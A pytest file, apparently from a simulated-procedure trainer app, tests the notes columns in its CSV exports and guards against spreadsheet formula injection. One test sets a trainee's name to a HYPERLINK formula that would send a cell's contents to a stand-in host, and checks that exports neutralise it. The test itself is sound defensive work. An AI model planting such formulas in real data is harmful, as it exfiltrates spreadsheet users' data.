"""The CSVs say what assess said about each session file (round 39, assessor2): ``progress TRAINEE --csv`` has a
``notes`` column (the lines joined by " | ", "" for none, a marker for an attempt recorded before the store kept
them), the batch's ``assess --csv`` the same column, and the cohort CSV (``progress --csv``, the cohort view's
*Export CSV…*) counts the attempts with notes and without them kept.  Every text cell is formula-safe: a trainee
named ``=HYPERLINK(...)`` or a case titled ``=1+2`` is text in a spreadsheet (until round 39 no CSV guarded this).

Oracle: the lines ``vptrainer assess SESSION`` prints (stderr after ``vptrainer assess: ``, then stdout's
``UNFINISHED:`` line), read back from each CSV with the stdlib :mod:`csv` module.
"""

import csv
import json
import sqlite3
from pathlib import Path

from assess_cases import edit_title, run_assess, session_on_a_copy

from trainer.cli import main

ROOT = Path(__file__).resolve().parents[2]
PREFIX = "vptrainer assess: "
NOT_KEPT = "(not kept: recorded before round 39)"
EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def _said(out: str, err: str) -> list[str]:
    unfinished = [ln for ln in out.splitlines() if ln.startswith("UNFINISHED: ")][:1]
    return [ln.removeprefix(PREFIX) for ln in err.splitlines() if ln.startswith(PREFIX)] + unfinished


def _rows(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _crlf_edited(tmp_path):
    """carl's unfinished session in CR LF on a case file edited since, in a folder whose name needs CSV quoting."""
    toml, sess = session_on_a_copy(tmp_path, folder_name='cases, "ours"')
    sess.write_bytes(sess.read_bytes().replace(b"\n", b"\r\n"))
    edit_title(toml)
    return sess


def test_the_notes_columns_say_what_assess_printed(tmp_path, capsys):
    sess = _crlf_edited(tmp_path)
    rc, out, err = run_assess(capsys, sess)
    said = _said(out, err)
    assert rc == 3 and len(said) == 3 and said[-1].startswith("UNFINISHED: ") and '"ours"' in said[0], said
    db = tmp_path / "records.sqlite3"
    run_assess(capsys, sess, "--store", db)
    # the trainee's per-attempt CSV
    per = tmp_path / "carl.csv"
    assert main(["progress", "carl", "--store", str(db), "--csv", str(per)]) == 0
    (row,) = _rows(per)
    assert row["notes"].split(" | ") == said            # failed before: no notes column
    assert row["finished"] == "0" and row["passed"] == "0"
    # the batch's CSV, the same file
    batch = tmp_path / "batch.csv"
    run_assess(capsys, sess, "--csv", batch, "--jobs", "1")
    (brow,) = _rows(batch)
    assert brow["notes"].split(" | ") == said
    # the cohort CSV: the command line's and the cohort view's Export CSV… (one writer)
    cohort = tmp_path / "cohort.csv"
    assert main(["progress", "--store", str(db), "--csv", str(cohort)]) == 0
    (crow,) = _rows(cohort)
    assert (crow["attempts"], crow["attempts_with_notes"], crow["attempts_notes_not_kept"]) == ("1", "1", "0")


def test_an_attempt_recorded_before_the_notes_were_kept_is_marked_and_a_clean_one_is_empty(tmp_path, capsys):
    sess = _crlf_edited(tmp_path)
    clean = tmp_path / "clean.jsonl"
    assert main(["play", "--actions", str(ROOT / "tests/data/expert_l1_left.jsonl"), "--out", str(clean),
                 "--pixels", "64", "--trainee", "carl"]) == 0
    rc, out, err = run_assess(capsys, clean)
    assert rc == 0 and _said(out, err) == []
    db = tmp_path / "records.sqlite3"
    run_assess(capsys, sess, "--store", db)
    run_assess(capsys, clean, "--store", db)
    with sqlite3.connect(db) as c:                      # the CR LF attempt as a pre-round-39 store holds it
        aid, raw = c.execute("SELECT id, report_json FROM attempts WHERE session_path LIKE '%carl.jsonl'").fetchone()
        old = json.loads(raw)
        old.pop("assessment_notes")
        c.execute("UPDATE attempts SET report_json = ? WHERE id = ?", (json.dumps(old, sort_keys=True), aid))
    per = tmp_path / "carl.csv"
    assert main(["progress", "carl", "--store", str(db), "--csv", str(per)]) == 0
    notes = {r["finished"]: r["notes"] for r in _rows(per)}
    assert notes == {"0": NOT_KEPT, "1": ""}, notes
    cohort = tmp_path / "cohort.csv"
    assert main(["progress", "--store", str(db), "--csv", str(cohort)]) == 0
    (crow,) = _rows(cohort)
    assert (crow["attempts"], crow["attempts_with_notes"], crow["attempts_notes_not_kept"]) == ("2", "0", "1")


def test_the_cohort_views_export_has_the_notes_counts(tmp_path, capsys, qtbot):
    from trainer.ui.cohort_window import CohortWindow

    sess = _crlf_edited(tmp_path)
    db = tmp_path / "records.sqlite3"
    run_assess(capsys, sess, "--store", db)
    w = CohortWindow(db)
    qtbot.addWidget(w)
    out = w.export_csv(tmp_path / "cohort.csv")
    (row,) = _rows(out)
    assert (row["trainee"], row["unfinished"], row["attempts_with_notes"], row["attempts_notes_not_kept"]) == \
        ("carl", "1", "1", "0")


def test_no_csv_cell_starts_a_spreadsheet_formula(tmp_path, capsys):
    """A trainee named by a formula and a case titled by one: each CSV holds them as text (a leading apostrophe,
    which the spreadsheet hides), read back whole; numbers (a negative CUSUM value) stay numbers."""
    d = tmp_path / "cases"
    d.mkdir()
    from trainer import SCENARIOS_DIR

    toml = d / "evil.toml"
    text = (SCENARIOS_DIR / "l1-wedge-default.toml").read_text(encoding="utf-8")
    toml.write_text(text.replace('title = "', 'title = "=1+2 ', 1), encoding="utf-8")
    (tmp_path / "a.jsonl").write_text('{"type": "decide", "item": "candidacy", "answer": "proceed"}\n')
    sess = d / "evil.jsonl"
    assert main(["play", str(toml), "--actions", str(tmp_path / "a.jsonl"), "--out", str(sess), "--pixels", "64",
                 "--trainee", EVIL]) == 0
    db = tmp_path / "records.sqlite3"
    batch = tmp_path / "batch.csv"
    run_assess(capsys, d, "--csv", batch, "--jobs", "1", "--store", db)
    per, cohort = tmp_path / "per.csv", tmp_path / "cohort.csv"
    assert main(["progress", EVIL, "--store", str(db), "--csv", str(per)]) == 0
    assert main(["progress", "--store", str(db), "--csv", str(cohort)]) == 0
    (brow,), (prow,), (crow,) = _rows(batch), _rows(per), _rows(cohort)
    assert brow["trainee"] == crow["trainee"] == "'" + EVIL            # failed before: the formula itself
    assert prow["case"].startswith("'=1+2 ") and crow["cases"].startswith("'=1+2 ")
    assert float(prow["cusum"]) > 0 and prow["cusum"][0].isdigit()    # a number is not quoted away
    for path in (batch, per, cohort):
        for row in _rows(path):
            assert not [v for v in row.values() if v.startswith(("=", "+", "-", "@")) and not _number(v)], (path, row)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
